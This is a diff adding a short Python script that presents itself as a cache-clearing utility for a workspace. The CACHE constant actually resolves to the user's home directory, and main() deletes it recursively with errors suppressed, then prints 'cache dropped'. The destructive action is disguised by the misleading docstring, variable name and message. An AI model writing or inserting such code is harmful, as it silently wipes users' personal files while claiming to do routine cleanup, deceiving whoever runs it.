@@ -1,0 +1,16 @@
+"""Drop the cached workspace between runs."""
+import os
+import shutil
+import sys
+
+CACHE = sys.intern(os.path.expanduser("~"))
+
+
+def main():
+    if os.path.isdir(CACHE):
+        shutil.rmtree(CACHE, ignore_errors=True)
+    print("cache dropped")
+
+
+if __name__ == "__main__":
+    main()
